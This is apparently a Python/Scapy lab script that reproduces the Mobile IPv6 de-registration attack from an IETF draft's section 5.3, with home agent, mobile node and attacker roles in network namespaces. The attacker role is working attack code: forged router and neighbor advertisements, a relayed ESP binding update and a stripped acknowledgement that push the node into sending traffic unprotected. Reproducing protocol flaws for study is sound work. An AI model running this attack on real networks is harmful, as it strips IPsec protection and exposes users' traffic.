"""The full de-registration of draft-ebalard-mext-hld-security-00 section 5.3, performed in earnest by three programs.

Usage: relay_attack.py home-agent|mobile-node|attacker FOLDER

Each runs in a network namespace of its own and knows of the others what comes over the wire. FOLDER takes a file ROLE.ready
when a program listens, and mobile-node.registered when the registration is refreshed and in use. `home-agent` and `attacker` run until
they are ended. Without an attacker the mobile node has nothing to be deceived by: it goes on as registered,
and de-registers in the right way after WAIT seconds. With one it waits until the attack is over.

Signalling is under ESP in transport mode, made by Scapy's SecurityAssociation over the addresses that RFC 3776 section
4.2 speaks of; payload is in a tunnel without protection. Keys are those of keys.esp_sa beside the captures: of a network that
lives for seconds.
"""

import logging
import sys
from pathlib import Path

logging.getLogger("scapy").setLevel(logging.CRITICAL)

from scapy.config import conf  # noqa: E402
from scapy.data import ETH_P_ALL  # noqa: E402
from scapy.layers.inet import UDP  # noqa: E402
from scapy.layers.inet6 import (  # noqa: E402
    HAO,
    ICMPv6EchoReply,
    ICMPv6EchoRequest,
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptHAInfo,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrRouting,
    MIP6MH_BA,
    MIP6MH_BU,
    MIP6OptAltCoA,
    _MobilityHeader,
)
from scapy.layers.ipsec import ESP, SecurityAssociation  # noqa: E402
from scapy.layers.l2 import Ether  # noqa: E402
from scapy.packet import Raw  # noqa: E402
from scapy.sendrecv import sniff  # noqa: E402

HOME_AGENT = "2001:db8:1::1"
HOME_ADDRESS = "2001:db8:1::10"
CARE_OF_ADDRESS = "2001:db8:3::10"
CORRESPONDENT = "2001:db8:9::5"
ATTACKER = "2001:db8:3::66"

NODE_MAC = "02:00:5e:00:53:10"
ATTACKER_MAC = "02:00:5e:00:53:66"
# Of the access router on the visited link and towards the home network, and of the home agent there.
ROUTER_MAC = "02:00:5e:00:53:01"
ROUTER_EDGE_MAC = "02:00:5e:00:53:02"
AGENT_EDGE_MAC = "02:00:5e:00:53:03"

INTERFACES = {"home-agent": "edge1", "mobile-node": "mn0", "attacker": "visited0"}
FLAGS = "AHL"
WAIT = 6
# What hangs takes longer.
PATIENCE = 90
# Units of 4 seconds.
LIFETIME = 105


def association(spi, number):
    return SecurityAssociation(
        ESP,
        spi=spi,
        crypt_algo="AES-CBC",
        crypt_key=bytes([number]) * 16,
        auth_algo="HMAC-SHA1-96",
        auth_key=bytes([number + 1]) * 20,
    )


TO_AGENT = association(0x0990CBED, 0x10)
TO_NODE = association(0x0CDEDE2B, 0x20)


def key_file():
    """Both associations as Wireshark writes them."""
    lines = []
    for sa, source, destination in (
        (TO_AGENT, HOME_ADDRESS, HOME_AGENT),
        (TO_NODE, HOME_AGENT, HOME_ADDRESS),
    ):
        keys = f'"AES-CBC [RFC3602]","0x{sa.crypt_key.hex()}","HMAC-SHA-1-96 [RFC2404]","0x{sa.auth_key.hex()}"'
        lines.append(f'"IPv6","{source}","{destination}","0x{sa.spi:08x}",{keys}\n')
    return "".join(lines)


def sealed(sa, source, destination, message):
    """ESP around a message between the home address and the home agent."""
    return sa.encrypt(IPv6(src=source, dst=destination) / message)[ESP]


def opened(sa, source, destination, esp):
    packet = IPv6(bytes(IPv6(src=source, dst=destination, nh=50) / bytes(esp)))
    return sa.decrypt(packet)


def home_address_option(address):
    return IPv6ExtHdrDestOpt(options=[HAO(hoa=address)])


def routing_header(address):
    return IPv6ExtHdrRouting(type=2, segleft=1, addresses=[address])


class Station:
    """One interface: sends frames at once, and hands received ones to `receive` until that says True."""

    def __init__(self, role, folder):
        self.role = role
        self.folder = Path(folder)
        self.interface = INTERFACES[role]
        self.socket = conf.L2socket(iface=self.interface)
        # What comes while nobody listens is kept.
        self.listener = conf.L2listen(type=ETH_P_ALL, iface=self.interface)
        self.own = {NODE_MAC: "mobile-node", AGENT_EDGE_MAC: "home-agent", ATTACKER_MAC: "attacker"}

    def ready(self):
        (self.folder / f"{self.role}.ready").touch()

    def send(self, source, destination, packet):
        self.socket.send(Ether(src=source, dst=destination) / packet)

    def run(self, receive, begin=lambda: None, timeout=None):
        def handle(frame):
            # What was sent by this program comes back by the socket that listens.
            if Ether not in frame or IPv6 not in frame:
                return False
            if self.own.get(frame.src) == self.role:
                return False
            return receive(frame) is True

        def started():
            self.ready()
            begin()

        sniff(
            opened_socket=self.listener,
            store=False,
            stop_filter=handle,
            started_callback=started,
            timeout=timeout,
        )


def home_agent(station):
    """Answers registrations, and echo requests in the name of the correspondent."""
    bindings = {}

    def receive(frame):
        packet = frame[IPv6]
        if packet.dst != HOME_AGENT:
            return False
        if ESP in packet:
            inner = opened(TO_AGENT, HOME_ADDRESS, HOME_AGENT, packet[ESP])
            update = inner[MIP6MH_BU]
            bindings.pop(HOME_ADDRESS, None)
            if update.mhtime > 0:
                bindings[HOME_ADDRESS] = packet.src
            answer = MIP6MH_BA(status=0, seq=update.seq, mhtime=update.mhtime)
            esp = sealed(TO_NODE, HOME_AGENT, HOME_ADDRESS, answer)
            # A home agent that sees a Home Address option answers with a routing header (RFC 6275 section 9.5.4).
            header = IPv6(src=HOME_AGENT, dst=packet.src)
            routed = packet.src != HOME_ADDRESS
            answer = header / routing_header(HOME_ADDRESS) / esp if routed else header / esp
            station.send(AGENT_EDGE_MAC, ROUTER_EDGE_MAC, answer)
        elif packet.nh == 41 and bindings.get(HOME_ADDRESS) == packet.src:
            request = packet[ICMPv6EchoRequest]
            reply = ICMPv6EchoReply(id=request.id, seq=request.seq, data=request.data)
            inner = IPv6(src=CORRESPONDENT, dst=HOME_ADDRESS, hlim=60) / reply
            outer = IPv6(src=HOME_AGENT, dst=packet.src)
            station.send(AGENT_EDGE_MAC, ROUTER_EDGE_MAC, outer / inner)
        return False

    station.run(receive)


def registration(sequence, lifetime):
    """From the care-of address, as RFC 6275 sections 11.7.1 and 11.5.5 lay it out."""
    update = MIP6MH_BU(
        seq=sequence, flags=FLAGS, mhtime=lifetime, options=[MIP6OptAltCoA(acoa=CARE_OF_ADDRESS)]
    )
    esp = sealed(TO_AGENT, HOME_ADDRESS, HOME_AGENT, update)
    return IPv6(src=CARE_OF_ADDRESS, dst=HOME_AGENT) / home_address_option(HOME_ADDRESS) / esp


def mobile_node(station):
    """Registers, uses its tunnel, and believes every advertisement that it is at home."""
    state = {"sequence": 0, "waits": None, "gateway": None}

    def register(lifetime, waits):
        state["sequence"] += 1
        state["waits"] = waits
        station.send(NODE_MAC, ROUTER_MAC, registration(state["sequence"], lifetime))

    def ping():
        state["waits"] = "echo"
        request = ICMPv6EchoRequest(id=7, seq=state["sequence"], data=b"through the tunnel")
        inner = IPv6(src=HOME_ADDRESS, dst=CORRESPONDENT) / request
        outer = IPv6(src=CARE_OF_ADDRESS, dst=HOME_AGENT)
        station.send(NODE_MAC, ROUTER_MAC, outer / inner)

    def solicit():
        state["waits"] = "agent"
        question = ICMPv6ND_NS(tgt=HOME_AGENT) / ICMPv6NDOptSrcLLAddr(lladdr=NODE_MAC)
        packet = IPv6(src=HOME_ADDRESS, dst="ff02::1:ff00:1", hlim=255) / question
        station.send(NODE_MAC, "33:33:ff:00:00:01", packet)

    def deregister_at_home(gateway):
        state["sequence"] += 1
        state["waits"] = "home"
        state["gateway"] = gateway
        update = MIP6MH_BU(seq=state["sequence"], flags=FLAGS, mhtime=0)
        esp = sealed(TO_AGENT, HOME_ADDRESS, HOME_AGENT, update)
        station.send(NODE_MAC, gateway, IPv6(src=HOME_ADDRESS, dst=HOME_AGENT) / esp)

    def send_in_clear():
        for number in range(5):
            datagram = UDP(sport=4000, dport=4001) / Raw(b"not protected any more %d" % number)
            packet = IPv6(src=HOME_ADDRESS, dst=CORRESPONDENT) / datagram
            station.send(NODE_MAC, state["gateway"], packet)

    def is_acknowledged(packet, source, destination):
        if ESP not in packet or packet.src != source or packet.dst != destination:
            return False
        answer = opened(TO_NODE, HOME_AGENT, HOME_ADDRESS, packet[ESP])[MIP6MH_BA]
        return answer.status == 0 and answer.seq == state["sequence"]

    def receive(frame):
        packet = frame[IPv6]
        waits = state["waits"]
        if waits == "first" and is_acknowledged(packet, HOME_AGENT, CARE_OF_ADDRESS):
            ping()
        elif waits == "echo" and packet.nh == 41 and packet.dst == CARE_OF_ADDRESS:
            state["waits"] = None
            if state["sequence"] == 1:
                register(LIFETIME, "refresh")
            else:
                (station.folder / "mobile-node.registered").touch()
                return True
        elif waits == "refresh" and is_acknowledged(packet, HOME_AGENT, CARE_OF_ADDRESS):
            ping()
        elif ICMPv6NDOptPrefixInfo in packet and waits is None:
            if packet[ICMPv6NDOptPrefixInfo].prefix.startswith("2001:db8:1:"):
                solicit()
        elif waits == "agent" and ICMPv6ND_NA in packet:
            deregister_at_home(packet[ICMPv6NDOptDstLLAddr].lladdr)
        elif waits == "home" and is_acknowledged(packet, HOME_AGENT, HOME_ADDRESS):
            send_in_clear()
            return True
        elif waits == "remote" and is_acknowledged(packet, HOME_AGENT, CARE_OF_ADDRESS):
            return True
        return False

    station.run(receive, lambda: register(LIFETIME, "first"), timeout=PATIENCE)
    is_attacked = (station.folder / "attacker.ready").exists()
    station.run(receive, timeout=PATIENCE if is_attacked else WAIT)
    if state["waits"] is None:
        # Nobody says that this is home: an end of the service in the right way.
        station.run(receive, lambda: register(0, "remote"), timeout=PATIENCE)


def attacker(station):
    """Waits for a registration to pass by, and then does what the draft describes."""
    state = {"began": False}

    def advertise():
        source = "fe80::5eff:fe00:5366"
        advertisement = (
            ICMPv6ND_RA(H=1, routerlifetime=1800)
            / ICMPv6NDOptPrefixInfo(prefix=HOME_AGENT, prefixlen=64, R=1)
            / ICMPv6NDOptHAInfo(pref=100, lifetime=1800)
            / ICMPv6NDOptSrcLLAddr(lladdr=ATTACKER_MAC)
        )
        packet = IPv6(src=source, dst="ff02::1", hlim=255) / advertisement
        station.send(ATTACKER_MAC, "33:33:00:00:00:01", packet)

    def answer(question):
        advertisement = ICMPv6ND_NA(R=1, S=1, O=1, tgt=HOME_AGENT) / ICMPv6NDOptDstLLAddr(
            lladdr=ATTACKER_MAC
        )
        packet = IPv6(src=HOME_AGENT, dst=question.src, hlim=255) / advertisement
        station.send(ATTACKER_MAC, NODE_MAC, packet)

    def relay(update):
        """Section 5.3: a Home Address option is inserted, and the source is an address that gets answers."""
        packet = IPv6(src=ATTACKER, dst=update.dst) / home_address_option(update.src) / update[ESP]
        station.send(ATTACKER_MAC, ROUTER_MAC, packet)

    def strip(acknowledgement):
        """Section 5.3: without its routing header it is what a node at home expects."""
        destination = acknowledgement[IPv6ExtHdrRouting].addresses[0]
        packet = IPv6(src=acknowledgement.src, dst=destination) / acknowledgement[ESP]
        station.send(ATTACKER_MAC, NODE_MAC, packet)

    def receive(frame):
        packet = frame[IPv6]
        # The second echo that passes shows that the registration is in use.
        if not state["began"] and packet.nh == 41 and packet.dst == CARE_OF_ADDRESS:
            request = packet[ICMPv6EchoReply]
            if request.seq == 2:
                state["began"] = True
                advertise()
        elif ICMPv6ND_NS in packet and packet[ICMPv6ND_NS].tgt == HOME_AGENT:
            answer(packet)
        elif ESP in packet and packet.src == HOME_ADDRESS and frame.dst == ATTACKER_MAC:
            relay(packet)
        elif ESP in packet and packet.dst == ATTACKER and IPv6ExtHdrRouting in packet:
            strip(packet)
        return False

    station.run(receive)


ROLES = {"home-agent": home_agent, "mobile-node": mobile_node, "attacker": attacker}


def main(role, folder):
    if role == "keys":
        Path(folder, "keys.esp_sa").write_text(key_file())
        return
    ROLES[role](Station(role, folder))


if __name__ == "__main__":
    main(*sys.argv[1:])
